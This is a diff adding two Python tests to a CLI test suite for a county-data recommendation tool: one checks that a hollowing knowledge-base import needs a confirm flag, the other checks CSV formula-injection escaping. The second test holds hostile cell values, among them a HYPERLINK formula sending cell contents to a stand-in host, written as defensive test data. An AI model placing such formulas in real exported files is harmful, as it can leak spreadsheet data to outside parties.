@@ -101,3 +101,35 @@ def test_recommend_csv_in_csv_out(tmp_path: Path) -> None:
     assert len({r.split(",")[0] for r in rows[1:]}) == 121
     assert any("/indicators/gdp_cny_100m" in r for r in rows)
     assert "wrote 121 result(s)" in res.stderr
+
+
+def test_kb_import_that_removes_most_needs_confirm_remove(tmp_path: Path) -> None:
+    import json
+
+    db = tmp_path / "kb.db"
+    run("migrate", db=db, check=True)
+    run("seed", db=db, check=True)
+    exported = json.loads(run("kb", "export", db=db, check=True).stdout)
+    exported["examples"] = []
+    source = tmp_path / "hollow.json"
+    source.write_text(json.dumps(exported), encoding="utf-8")
+    refused = run("kb", "import", str(source), db=db)
+    assert refused.returncode == 1
+    assert "confirm" in refused.stderr
+    done = run("kb", "import", str(source), "--confirm-remove", db=db, check=True)
+    assert "imported as version 2" in done.stdout
+
+
+def test_recommend_csv_writes_county_names_as_text(tmp_path: Path) -> None:
+    import csv
+
+    names = ['=HYPERLINK("http://x.example/?q="&A1,"Deqing")', "+cmd", "-2+3", "@SUM(A1)"]
+    src = tmp_path / "hostile.csv"
+    rows = ["county_name,gdp_cny_100m,foreign_trade_cny_100m"]
+    rows += ['"' + n.replace('"', '""') + '",720,344.7' for n in names]
+    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    out = tmp_path / "out.csv"
+    run("recommend", str(src), "-o", str(out), "--seeds", check=True)
+    with out.open(encoding="utf-8", newline="") as handle:
+        written = {row["county"] for row in csv.DictReader(handle)}
+    assert written == {"'" + n for n in names}
